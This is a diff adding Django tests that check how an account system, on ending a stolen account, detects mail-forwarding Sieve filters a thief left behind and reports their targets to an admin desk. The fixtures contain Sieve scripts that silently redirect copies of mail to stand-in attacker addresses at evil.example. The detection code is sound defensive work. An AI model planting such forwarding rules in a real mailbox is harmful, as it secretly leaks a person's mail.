@@ -10,6 +10,7 @@ import time_machine
 from django.db import connection, transaction
 from django.test import TestCase
 from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
 from django.utils import timezone
 from pytest_django import Settings
 
@@ -18,10 +19,13 @@ from accounts.mailsessions import dovecot, mailsessions
 from accounts.mailsessions.mailsessions import Why
 from accounts.mailsessions.models import Ending
 from accounts.rollouts import exemptions, switching
+from accounts.sessions import endings
+from accounts.sessions.endings import Occasion
 from accounts.users.models import User
 from apppasswords import passwords
 from tests.conftest import MakeUser
 from tests.kit import upkeep
+from tests.kit.people import Person
 from tests.kit.servers.doveadm_stub import KEY, DoveadmStub, doveadm_stub
 
 NAME, OTHER = "wangwu@example.edu", "lisi@example.edu"
@@ -243,3 +247,43 @@ def test_an_exception_that_is_over_ends_it(
         exemptions.make(user, timezone.now() + timedelta(days=3), "abroad", actor=clerk)
     sweep_after(clock, timedelta(days=3, seconds=1))
     assert (NAME, PHONE) not in server.connected
+
+
+# --- Filters that somebody left ---------------------------------------------------------------------------------------
+
+FORWARDS = 'require ["include", "copy"];\ninclude :personal "more";\nredirect :copy "a@evil.example";'
+
+
+def stolen(user: User) -> mailsessions.Told:
+    with TestCase.captureOnCommitCallbacks(execute=True):
+        endings.end(Occasion.STOLEN, user)
+    told = mailsessions.latest(user.username)
+    assert told
+    return told
+
+
+def test_the_desk_sees_where_a_thief_sends_mail_on(server: DoveadmStub, make_user: MakeUser, office: Person) -> None:
+    server.scripts = {"main": FORWARDS, "more": 'redirect "b@evil.example";'}
+    user = make_user("wangwu")
+    assert stolen(user).forwards == ["a@evil.example", "b@evil.example"]
+    assert "a@evil.example, b@evil.example" in office.get(reverse("admin:desk", args=[user.pk])).content.decode()
+
+
+def test_a_script_that_is_not_active_sends_nothing(server: DoveadmStub, make_user: MakeUser) -> None:
+    server.scripts = {"main": "keep;", "old": 'redirect "b@evil.example";'}
+    assert stolen(make_user("wangwu")).forwards == []
+
+
+def test_nothing_is_said_of_filters_that_nobody_could_look_at(server: DoveadmStub, make_user: MakeUser) -> None:
+    """A mail server whose settings are from before; what is connected ends all the same."""
+    server.scripts, server.fault = {"main": FORWARDS}, "knows no sieve"
+    told = stolen(make_user("wangwu"))
+    assert told.forwards is None
+    assert told.row.ended_at
+    assert told.connections == 2
+
+
+def test_filters_are_nobody_s_business_otherwise(server: DoveadmStub) -> None:
+    server.scripts = {"main": FORWARDS}
+    assert end(why=Why.NEW_PASSWORD).forwards is None
+    assert "sieveList" not in {command for commands in server.commands for command in commands}
